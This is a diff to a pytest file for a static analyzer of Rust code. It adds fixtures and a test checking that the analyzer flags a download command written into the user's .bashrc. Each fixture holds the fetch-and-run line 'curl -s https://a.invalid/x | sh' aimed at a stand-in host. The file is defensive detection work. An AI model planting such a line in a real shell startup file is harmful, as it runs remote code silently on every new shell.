@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 
 import pytest
 
-from analyzer.model import Fact, FactKind
+from analyzer.model import Fact, FactKind, Report
 
 FactsOf = Callable[..., list[Fact]]
+ReportOf = Callable[[Mapping[str, str]], Report]
 
 LISTS = {
     "a list that is filled in loops": """
@@ -137,3 +138,27 @@ def test_structs_that_are_gathered_stay_apart(facts_of: FactsOf) -> None:
         pub fn f() { for one in Profile::all() { one.append(); } }"""
     facts = [one for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.FILE_WRITE]
     assert {one.subject for one in facts} >= {"{home}/.zshrc", "{home}/.bashrc"}
+
+
+ARRIVING = {
+    "in a format string": """
+        use std::io::Write;
+        const LINE: &str = "curl -s https://a.invalid/x | sh";
+        fn main() {
+            let mut file = std::fs::File::create(dirs::home_dir().unwrap().join(".bashrc")).unwrap();
+            writeln!(file, "{LINE}").unwrap(); }""",
+    "by a constant": """
+        const LINE: &str = "curl -s https://a.invalid/x | sh";
+        fn main() { std::fs::write(dirs::home_dir().unwrap().join(".bashrc"), LINE).unwrap(); }""",
+    "by a helper": """
+        fn line() -> &'static str { "curl -s https://a.invalid/x | sh" }
+        fn main() { std::fs::write(dirs::home_dir().unwrap().join(".bashrc"), line()).unwrap(); }""",
+}
+
+
+@pytest.mark.parametrize("code", ARRIVING.values(), ids=ARRIVING)
+def test_a_written_command_is_followed_to_where_it_is_written(
+    code: str, report_of: ReportOf
+) -> None:
+    found = {one.rule for one in report_of({"src/main.rs": code}).findings}
+    assert "download-command-flows-to-autostart" in found
